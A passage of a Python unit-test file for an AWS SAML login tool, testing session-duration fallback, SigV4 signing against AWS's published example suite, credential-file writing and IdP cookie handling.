        self.assertEqual(aws_login._http_date("Sun, 06 Nov 1994 08:49:37 GMT"), 784111777.0)
        self.assertEqual(aws_login._http_date("Sunday, 06-Nov-94 08:49:37 GMT"), 784111777.0)
        self.assertEqual(aws_login._http_date("Sun Nov  6 08:49:37 1994"), 784111777.0)
        for garbage in (None, "", "yesterday", "Sun, 06 Nov 99999999999 08:49:37 GMT"):
            aws_login._http_date(garbage)       # None or a number, never an exception


class RoleMaximumTest(LoginTestCase):
    """A `duration` over the role's MaxSessionDuration: asked again once with the
    same assertion (at the IdP's SessionDuration if lower, else 3600), said once,
    remembered for the profile and role; a chained role asks 3600."""

    REFUSED = "The requested DurationSeconds exceeds the MaxSessionDuration set for this role."

    def setUp(self):
        LoginTestCase.setUp(self)
        self.memory = os.path.join(self.home, ".aws-login", "duration", "default")

    def asked(self):
        return [r["form"].get("DurationSeconds") for r in self.sts.requests
                if r["form"].get("Action") == "AssumeRoleWithSAML"]

    def test_over_the_maximum_asks_3600_once_says_so_and_remembers_it(self):
        self.configure(username="alice", factor="auto", password=PASSWORD, duration="43200")
        self.sts.max_durations[ADMIN] = 3600
        run = self.tool(["login"], terminal=False)
        self.assert_logged_in(run)
        self.assertEqual(self.asked(), ["43200", "3600"])
        first, second = self.sts.requests
        self.assertEqual(first["form"]["SAMLAssertion"], second["form"]["SAMLAssertion"])
        self.assertEqual(len(self.idp.requests), 1)         # one IdP login
        self.assertEqual(run.stderr.count("warning:"), 1, run.stderr)
        self.assertIn("aws_login: warning: role Admin (account %s) refused a 43200 s session "
                      "(over its maximum); it got 3600 s, and profile default asks for 3600 s "
                      "from now on (a new `duration` is tried again)\n" % ACCOUNT_A, run.stderr)
        self.assertEqual(os.stat(self.memory).st_mode & 0o777, 0o600)
        self.assertNotIn("3600", self.read(self.config_file))   # the settings are the user's
        # the next login (and the refresher's) asks STS once, and says nothing
        del self.sts.requests[:]
        run = self.tool(["login", "--force"], terminal=False)
        self.assert_logged_in(run)
        self.assertEqual(self.asked(), ["3600"])
        self.assertNotIn("warning", run.stderr)
        refresher = aws_login._Refresher("default", aws_login._RefresherJob(ADMIN, 0, 1))
        self.assertIsNotNone(refresher.step())
        self.assertEqual(self.asked(), ["3600", "3600"])

    def test_the_idps_session_duration_is_asked_when_lower(self):
        self.idp.users["alice"]["session_duration"] = 7200
        self.configure(username="alice", factor="auto", password=PASSWORD, duration="43200")
        self.sts.max_durations[ADMIN] = 7200
        run = self.tool(["login"], terminal=False)
        self.assert_logged_in(run)
        self.assertEqual(self.asked(), ["43200", "7200"])
        self.assertIn("it got 7200 s", run.stderr)

    def test_the_memory_is_per_role_and_a_new_duration_is_tried_again(self):
        self.configure(username="bob", factor="auto", password="bob-pass", duration="43200")
        self.sts.max_durations[ADMIN] = 3600
        self.assert_logged_in(self.tool(["login", "--role", "Admin"], terminal=False))
        self.assert_logged_in(self.tool(["login", "--role", "ReadOnly"], terminal=False),
                              READONLY)
        self.assertEqual(self.asked(), ["43200", "3600", "43200"])
        del self.sts.requests[:]
        self.configure(username="bob", factor="auto", password="bob-pass", duration="7200")
        run = self.tool(["login", "--role", "Admin", "--force"], terminal=False)
        self.assert_logged_in(run)
        self.assertEqual(self.asked(), ["7200", "3600"])
        self.assertIn("refused a 7200 s session", run.stderr)

    def test_refused_twice_is_stss_error_with_its_advice(self):
        self.configure(username="alice", factor="auto", password=PASSWORD, duration="43200")
        self.sts.queue.extend([sts_error("ValidationError", self.REFUSED)] * 2)
        run = self.tool(["login"], terminal=False)
        self.assert_nothing_written(run, 7)
        self.assertIn("lower `duration`", run.stderr)
        self.assertEqual(self.asked(), ["43200", "3600"])
        self.assertFalse(os.path.exists(self.memory))

    def test_no_second_try_below_an_hour_or_for_other_errors(self):
        self.configure(username="alice", factor="auto", password=PASSWORD, duration="3600")
        self.sts.queue.append(sts_error("ValidationError", self.REFUSED))
        self.assert_nothing_written(self.tool(["login"], terminal=False), 7)
        self.assertEqual(self.asked(), ["3600"])
        del self.sts.requests[:]
        self.configure(username="alice", factor="auto", password=PASSWORD, duration="7200")
        self.sts.queue.append(sts_error("ValidationError", "Invalid RoleArn or PrincipalArn"))
        self.assert_nothing_written(self.tool(["login"], terminal=False), 7)
        self.assertEqual(self.asked(), ["7200"])

    def test_a_chained_role_asks_an_hour_and_says_so_when_more_is_asked(self):
        target = "arn:aws:iam::%s:role/Deploy" % ACCOUNT_B
        self.configure(username="alice", factor="auto", password=PASSWORD, duration="7200",
                       chain_role_arn=target)
        run = self.tool(["login"], terminal=False)
        self.assertEqual(run.code, 0, run)
        self.assertEqual(self.sts.requests[-1]["form"]["DurationSeconds"], "3600")
        self.assertEqual(run.stderr.count("warning:"), 1, run.stderr)
        self.assertIn("aws_login: warning: profile default asks for a 7200 s session, but AWS "
                      "caps a chained role's at one hour: asking 3600 s for %s\n" % target,
                      run.stderr)
        self.configure(username="alice", factor="auto", password=PASSWORD, duration="3600")
        run = self.tool(["login", "--force"], terminal=False)
        self.assertEqual(run.code, 0, run)
        self.assertNotIn("warning", run.stderr)


class SigV4OrderTest(unittest.TestCase):
    def test_query_is_sorted_after_encoding(self):
        canonical, _ = aws_login._canonical_request("GET", "https://sts.amazonaws.com/?Z=1&%5B=2&a=",
                                                    {"Host": "sts.amazonaws.com"}, b"")
        self.assertEqual(canonical.split("\n")[2], "%5B=2&Z=1&a=")


# The AWS Signature Version 4 test suite (the classic one AWS published),
# copied byte for byte: request, canonical request, string to sign, Authorization.
# AWS Signature Version 4 Test Suite
# Copyright Amazon.com, Inc. or its affiliates. All Rights Reserved.
# SPDX-License-Identifier: Apache-2.0.  (The license text is in LICENSE.)
SIGV4_SUITE = {
    'get-relative': {
        'req': 'GET /example/.. HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
        'creq': 'GET\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\nbb579772317eb040ac9ed261061d46c1f17a8133879d6129b6e1c25292927e63',
        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=5fa00fa31553b73ebf1942676e86291e8372ff2a2260956d9b8aae1d763fbf31',
    },
    'get-relative-relative': {
        'req': 'GET /example1/example2/../.. HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
        'creq': 'GET\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\nbb579772317eb040ac9ed261061d46c1f17a8133879d6129b6e1c25292927e63',
        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=5fa00fa31553b73ebf1942676e86291e8372ff2a2260956d9b8aae1d763fbf31',
    },
    'get-slash': {
        'req': 'GET // HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
        'creq': 'GET\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\nbb579772317eb040ac9ed261061d46c1f17a8133879d6129b6e1c25292927e63',
        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=5fa00fa31553b73ebf1942676e86291e8372ff2a2260956d9b8aae1d763fbf31',
    },
    'get-slash-dot-slash': {
        'req': 'GET /./ HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
        'creq': 'GET\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\nbb579772317eb040ac9ed261061d46c1f17a8133879d6129b6e1c25292927e63',
        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=5fa00fa31553b73ebf1942676e86291e8372ff2a2260956d9b8aae1d763fbf31',
    },
    'get-slash-pointless-dot': {
        'req': 'GET /./example HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
        'creq': 'GET\n/example\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\n214d50c111a8edc4819da6a636336472c916b5240f51e9a51b5c3305180cf702',
        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=ef75d96142cf21edca26f06005da7988e4f8dc83a165a80865db7089db637ec5',
    },
    'get-slashes': {
        'req': 'GET //example// HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
        'creq': 'GET\n/example/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\ncb96b4ac96d501f7c5c15bc6d67b3035061cfced4af6585ad927f7e6c985c015',
        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=9a624bd73a37c9a373b5312afbebe7a714a789de108f0bdfe846570885f57e84',
    },
    'get-space': {
        'req': 'GET /example space/ HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
        'creq': 'GET\n/example%20space/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\n63ee75631ed7234ae61b5f736dfc7754cdccfedbff4b5128a915706ee9390d86',
        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=652487583200325589f1fba4c7e578f72c47cb61beeca81406b39ddec1366741',
    },
    'get-vanilla': {
        'req': 'GET / HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
        'creq': 'GET\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\nbb579772317eb040ac9ed261061d46c1f17a8133879d6129b6e1c25292927e63',
        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=5fa00fa31553b73ebf1942676e86291e8372ff2a2260956d9b8aae1d763fbf31',
    },
    'get-vanilla-query': {
        'req': 'GET / HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
        'creq': 'GET\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\nbb579772317eb040ac9ed261061d46c1f17a8133879d6129b6e1c25292927e63',
        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=5fa00fa31553b73ebf1942676e86291e8372ff2a2260956d9b8aae1d763fbf31',
    },
    'get-vanilla-with-session-token': {
        'req': 'GET / HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
        'creq': 'GET\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\nx-amz-security-token:6e86291e8372ff2a2260956d9b8aae1d763fbf315fa00fa31553b73ebf194267\n\nhost;x-amz-date;x-amz-security-token\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\n067b36aa60031588cea4a4cde1f21215227a047690c72247f1d70b32fbbfad2b',
        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date;x-amz-security-token, Signature=07ec1639c89043aa0e3e2de82b96708f198cceab042d4a97044c66dd9f74e7f8',
    },
    'post-sts-header-after': {
        'req': 'POST / HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
        'creq': 'POST\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\n553f88c9e4d10fc9e109e2aeb65f030801b70c2f6468faca261d401ae622fc87',
        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=5da7c1a2acd57cee7505fc6676e4e544621c30862966e37dddb68e92efbe5d6b',
    },
    'post-sts-header-before': {
        'req': 'POST / HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z\nX-Amz-Security-Token:AQoDYXdzEPT//////////wEXAMPLEtc764bNrC9SAPBSM22wDOk4x4HIZ8j4FZTwdQWLWsKWHGBuFqwAeMicRXmxfpSPfIeoIYRqTflfKD8YUuwthAx7mSEI/qkPpKPi/kMcGdQrmGdeehM4IC1NtBmUpp2wUE8phUZampKsburEDy0KPkyQDYwT7WZ0wq5VSXDvp75YU9HFvlRd8Tx6q6fE8YQcHNVXAkiY9q6d+xo0rKwT38xVqr7ZD0u0iPPkUL64lIZbqBAz+scqKmlzm8FDrypNC9Yjc8fPOLn9FX9KSYvKTr4rvx3iSIlTJabIQwj2ICCR/oLxBA==',
        'creq': 'POST\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\nx-amz-security-token:AQoDYXdzEPT//////////wEXAMPLEtc764bNrC9SAPBSM22wDOk4x4HIZ8j4FZTwdQWLWsKWHGBuFqwAeMicRXmxfpSPfIeoIYRqTflfKD8YUuwthAx7mSEI/qkPpKPi/kMcGdQrmGdeehM4IC1NtBmUpp2wUE8phUZampKsburEDy0KPkyQDYwT7WZ0wq5VSXDvp75YU9HFvlRd8Tx6q6fE8YQcHNVXAkiY9q6d+xo0rKwT38xVqr7ZD0u0iPPkUL64lIZbqBAz+scqKmlzm8FDrypNC9Yjc8fPOLn9FX9KSYvKTr4rvx3iSIlTJabIQwj2ICCR/oLxBA==\n\nhost;x-amz-date;x-amz-security-token\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\nc237e1b440d4c63c32ca95b5b99481081cb7b13c7e40434868e71567c1a882f6',
        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date;x-amz-security-token, Signature=85d96828115b5dc0cfc3bd16ad9e210dd772bbebba041836c64533a82be05ead',
    },
    'post-vanilla': {
        'req': 'POST / HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
        'creq': 'POST\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\n553f88c9e4d10fc9e109e2aeb65f030801b70c2f6468faca261d401ae622fc87',
        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=5da7c1a2acd57cee7505fc6676e4e544621c30862966e37dddb68e92efbe5d6b',
    },
    'post-vanilla-query': {
        'req': 'POST /?Param1=value1 HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
        'creq': 'POST\n/\nParam1=value1\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\n9d659678c1756bb3113e2ce898845a0a79dbbc57b740555917687f1b3340fbbd',
        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=28038455d6de14eafc1f9222cf5aa6f1a96197d7deb8263271d420d138af7f11',
    },
    'post-x-www-form-urlencoded': {
        'req': 'POST / HTTP/1.1\nContent-Type:application/x-www-form-urlencoded\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z\n\nParam1=value1',
        'creq': 'POST\n/\n\ncontent-type:application/x-www-form-urlencoded\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\ncontent-type;host;x-amz-date\n9095672bbd1f56dfc5b65f3e153adc8731a4a654192329106275f4c7b24d0b6e',
        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\n42a5e5bb34198acb3e84da4f085bb7927f2bc277ca766e6d19c73c2154021281',
        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=content-type;host;x-amz-date, Signature=ff11897932ad3f4e8b18135d722051e5ac45fc38421b1da7b9d196a0fe09473a',
    },
    'post-x-www-form-urlencoded-parameters': {
        'req': 'POST / HTTP/1.1\nContent-Type:application/x-www-form-urlencoded; charset=utf8\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z\n\nParam1=value1',
        'creq': 'POST\n/\n\ncontent-type:application/x-www-form-urlencoded; charset=utf8\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\ncontent-type;host;x-amz-date\n9095672bbd1f56dfc5b65f3e153adc8731a4a654192329106275f4c7b24d0b6e',
        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\n2e1cf7ed91881a30569e46552437e4156c823447bf1781b921b5d486c568dd1c',
        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=content-type;host;x-amz-date, Signature=1a72ec8f64bd914b0e42e42607c7fbce7fb2c7465f63e3092b3b0d39fa77a6fe',
    },
}


def _parse_suite_request(text):
    """(method, path, headers, body) from a suite's .req file."""
    head, _, body = text.partition("\n\n")
    lines = head.split("\n")
    method, rest = lines[0].split(" ", 1)
    path = rest.rsplit(" ", 1)[0]
    headers = {}
    for line in lines[1:]:
        name, _, value = line.partition(":")
        headers.setdefault(name, []).append(value)
    return method, path, dict((k, ",".join(v)) for k, v in headers.items()), body.encode()


class SigV4SuiteTest(unittest.TestCase):
    KEY = aws_login.Credentials("AKIDEXAMPLE", "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY",
                                None, None)
    WHEN = datetime.datetime(2015, 8, 30, 12, 36, 0, tzinfo=datetime.timezone.utc)

    def test_every_case_of_the_official_suite(self):
        self.assertEqual(len(SIGV4_SUITE), 16)
        for name, case in sorted(SIGV4_SUITE.items()):
            method, path, headers, body = _parse_suite_request(case["req"])
            credentials = self.KEY
            if name == "get-vanilla-with-session-token":
                credentials = aws_login.Credentials(
                    self.KEY.access_key_id, self.KEY.secret_access_key,
                    "6e86291e8372ff2a2260956d9b8aae1d763fbf315fa00fa31553b73ebf194267", None)
            if "X-Amz-Security-Token" in headers:         # post-sts-header-before
                credentials = aws_login.Credentials(
                    self.KEY.access_key_id, self.KEY.secret_access_key,
                    headers.pop("X-Amz-Security-Token"), None)
            headers.pop("X-Amz-Date")
            url = "https://" + headers["Host"] + path
            signed = aws_login.sign_request(method, url, headers, body, credentials,
                                            "us-east-1", "service", self.WHEN)
            canonical, _ = aws_login._canonical_request(
                method, url, dict((k, v) for k, v in signed.items() if k != "Authorization"),
                body)
            self.assertEqual(canonical, case["creq"], name)
            self.assertEqual(aws_login._string_to_sign(
                "20150830T123600Z", "20150830/us-east-1/service/aws4_request", canonical),
                case["sts"], name)
            self.assertEqual(signed["Authorization"], case["authz"], name)
            self.assertEqual(signed["X-Amz-Date"], "20150830T123600Z")


# ---------------------------------------------------------------------------
# Credential store
# ---------------------------------------------------------------------------

class CredentialStoreTest(HomeTestCase):
    def test_a_write_refuses_long_term_keys_that_came_meanwhile(self):
        store = aws_login._FileStore("p")
        store.check_writable()          # nothing there yet: a login goes on
        text = "[p]\naws_access_key_id = AKIALONGTERM\naws_secret_access_key = s\n"
        self.write(self.credentials_file, text)     # another tool, meanwhile
        self.assertRaises(aws_login.CredentialsFileError, store.write, _fake_credentials(),
                          ADMIN)
        self.assertEqual(self.read(self.credentials_file), text)
        store.write(_fake_credentials(), ADMIN, force=True)
        self.assertEqual(self.credentials("p")["aws_login_role_arn"], ADMIN)

    def test_what_would_not_read_back_is_not_written(self):
        self.write(self.credentials_file, "[other]\nk = v\n")
        odd = aws_login.Credentials("ASIAX", "secret ", "tok", _fake_credentials().expires_at)
        with self.assertRaises(aws_login.CredentialsFileError) as caught:
            aws_login._FileStore("p").write(odd, ADMIN)
        self.assertIn("cannot write [p] cleanly", str(caught.exception))
        self.assertEqual(self.read(self.credentials_file), "[other]\nk = v\n")

    def test_mode_is_0600_whatever_the_umask(self):
        old = os.umask(0)
        try:
            aws_login._FileStore("p").write(_fake_credentials(), ADMIN)
        finally:
            os.umask(old)
        self.assertEqual(os.stat(self.credentials_file).st_mode & 0o777, 0o600)
        self.write(self.credentials_file, "[x]\nk = v\n", mode=0o644)
        aws_login._FileStore("p").write(_fake_credentials(), ADMIN)
        self.assertEqual(os.stat(self.credentials_file).st_mode & 0o777, 0o600)

    def test_symlinked_file_is_followed_and_stays_a_link(self):
        target = os.path.join(self.home, "dotfiles", "aws-credentials")
        self.write(target, "[other]\nk = v\n")
        os.makedirs(os.path.dirname(self.credentials_file))
        os.symlink(target, self.credentials_file)
        aws_login._FileStore("p").write(_fake_credentials(), ADMIN)
        self.assertTrue(os.path.islink(self.credentials_file))
        self.assertIn("[p]", self.read(target))
        self.assertTrue(self.read(target).startswith("[other]\nk = v\n"))

    def test_login_then_logout_is_byte_identical(self):
        original = ("# comment\r\n[default]\r\naws_access_key_id=AKIA1\r\n"
                    "aws_secret_access_key =x\r\n\r\n[z]  \r\nk:v")
        self.write(self.credentials_file, original)
        aws_login._FileStore("p").write(_fake_credentials(), ADMIN)
        aws_login._FileStore("p").write(_fake_credentials(1), ADMIN)
        self.assertEqual(aws_login._FileStore("p").remove(), ["p"])
        self.assertEqual(self.read(self.credentials_file), original)

    @slow
    def test_processes_writing_different_profiles_at_once_lose_nothing(self):
        code = ("import sys; sys.path.insert(0, %r); import aws_login, datetime\n"
                "for i in range(15):\n"
                "    aws_login._FileStore(sys.argv[1]).write(aws_login.Credentials("
                "'ASIA' + sys.argv[1], 's', 't%%d' %% i, datetime.datetime(2030, 1, 1, "
                "tzinfo=datetime.timezone.utc)), %r)\n" % (HERE, ADMIN))
        procs = [subprocess.Popen([sys.executable, "-c", code, "p%d" % i], env=os.environ)
                 for i in range(8)]
        self.assertEqual([p.wait() for p in procs], [0] * 8)
        for i in range(8):
            self.assertEqual(self.credentials("p%d" % i)["aws_session_token"], "t14")
        self.assertEqual([n for n in os.listdir(os.path.dirname(self.credentials_file))],
                         ["credentials"])       # no temp or lock files left behind

    def test_unparseable_file_is_left_alone(self):
        self.write(self.credentials_file, "no section header\nk = v\n")
        self.assertRaises(aws_login.CredentialsFileError, aws_login._FileStore("p").write,
                          _fake_credentials(), ADMIN)
        self.assertEqual(self.read(self.credentials_file), "no section header\nk = v\n")

    def test_either_of_our_keys_marks_a_section_as_ours(self):
        expiry, role = aws_login._EXPIRATION_KEY, aws_login._ROLE_KEY
        for section in ({expiry: "2100-01-01T00:00:00Z"}, {role: ADMIN},
                        {expiry: "2100-01-01T00:00:00Z", role: ADMIN, "region": "x"}):
            self.assertTrue(aws_login._is_ours(section), section)
        for section in ({}, {"aws_access_key_id": "AKIA", "aws_session_token": "t"},
                        {"aws_login": "x", "expiration": "y"}):
            self.assertFalse(aws_login._is_ours(section), section)

    def test_records_have_names(self):
        entry = aws_login._CacheEntry(5, ADMIN, "{}")
        self.assertEqual((entry.expires, entry.role_arn, entry.json), (5, ADMIN, "{}"))
        self.assertEqual(entry, (5, ADMIN, "{}"))
        self.assertEqual(repr(entry), "_CacheEntry(expires=5, role_arn=%r, json='{}')" % ADMIN)
        aws_login._ProcessStore("default").write(_fake_credentials(2), ADMIN)
        cached = aws_login._ProcessStore("default").cached()
        self.assertEqual(cached.role_arn, ADMIN)
        self.assertEqual(json.loads(cached.json)["AccessKeyId"],
                         _fake_credentials(2).access_key_id)
        spans = aws_login._sections(aws_login._lines("[a]\nk = v\n\n[b]\n[a]\n"), "a")
        self.assertEqual([(s.header, s.last, s.end) for s in spans], [(0, 2, 3), (4, 5, 5)])

    def test_a_cache_is_served_only_when_every_line_is_as_written(self):
        aws_login._ProcessStore("default").write(_fake_credentials(2), ADMIN)
        path = aws_login._ProcessStore("default").path
        good = self.read(path)
        header, expires, role, doc, _ = good.split("\n")
        self.write(path, good[:-1])             # no final newline: still whole
        self.assertEqual(aws_login._ProcessStore("default").cached().role_arn, ADMIN)
        for bad in ("", header + "\n", "\n".join((header, expires, role)) + "\n",
                    "\n".join(("# other", expires, role, doc)),
                    "\n".join((header, "expiry" + expires[7:], role, doc)),
                    "\n".join((header, expires, "rol " + role[5:], doc)),
                    "\n".join((header, expires, role, "[" + doc[1:])),
                    "\n".join((header, "expires soon", role, doc))):
            self.write(path, bad)
            self.assertIsNone(aws_login._ProcessStore("default").cached(), repr(bad))


# ---------------------------------------------------------------------------
# IdP session (cookie jar) and keyring
# ---------------------------------------------------------------------------

class IdPSessionTest(LoginTestCase):
    def test_a_login_reusing_the_session_imports_only_what_it_needs(self):
        self.configure(username="alice", factor="auto", password=PASSWORD)
        self.assert_logged_in(self.tool(["login"], terminal=False))
        code = ("import sys;sys.path.insert(0,%r);import aws_login;code=aws_login.main(["
                "'login','--force','--no-refresh']);sys.stderr.write(' '.join(sorted(m for m in "
                "('http.cookiejar','urllib.request','http.client','email.utils','email.parser') "
                "if m in sys.modules)));"
                "sys.exit(code)" % HERE)
        run = run_tool([], env=dict(os.environ), terminal=False,
                       argv_prefix=[sys.executable, "-c", code])
        self.assertEqual(run.code, 0, run)
        self.assertEqual(self.idp.logins[-1], ("alice", "session"))
        self.assertTrue(run.stderr.endswith(".\n"), run.stderr)  # no module named after it

    def test_second_login_after_logout_asks_only_for_the_role(self):
        self.configure(username="bob", factor="auto")
        self.assert_logged_in(self.tool(["login"], [("Password: ", "bob-pass"),
                                                    ("Selection: ", "0")]))
        self.assertEqual(self.tool(["logout"]).code, 0)
        run = self.tool(["login"], [("Selection [0]: ", "1")])     # Enter would take Admin
        self.assert_logged_in(run, DEV)
        self.assertNotIn("Password", run.tty)
        self.assertEqual(self.idp.logins[-1], ("bob", "session"))
        headers = self.idp.requests[-1]["headers"]
        for name in ("Authorization", "X-Shibboleth-Duo-Factor", "X-Shiboleth-Duo-Factor"):
            self.assertNotIn(name, headers)

    def test_cookie_jar_is_private_and_per_user_and_host(self):
        self.configure(username="alice", factor="auto")
        self.assert_logged_in(self.tool(["login"], [("Password: ", PASSWORD)]))
        cookies = os.path.join(self.home, ".aws-login", "cookies")
        self.assertEqual(os.stat(cookies).st_mode & 0o777, 0o700)
        jar = os.path.join(cookies, "alice@127.0.0.1%3A" + str(self.idp.port))
        self.assertEqual(os.listdir(cookies), [os.path.basename(jar)])
        self.assertEqual(os.stat(jar).st_mode & 0o777, 0o600)
        session = list(self.idp.sessions)[0]
        self.assertIn(session, self.read(jar))
        self.assertNotIn(session, run_tool(["login"], env=dict(os.environ)).stderr)

    def test_refused_session_falls_back_to_the_password(self):
        self.configure(username="alice", factor="auto")
        self.assert_logged_in(self.tool(["login"], [("Password: ", PASSWORD)]))
        self.idp.expire_sessions()
        run = self.tool(["login"], [("Password: ", PASSWORD)])
        self.assert_logged_in(run)
        self.assertEqual(self.idp.logins[-1], ("alice", "password"))

    def test_logout_forget_deletes_the_idp_session(self):
        self.configure(username="alice", factor="auto")
        self.assert_logged_in(self.tool(["login"], [("Password: ", PASSWORD)]))
        run = self.tool(["logout", "--forget"])
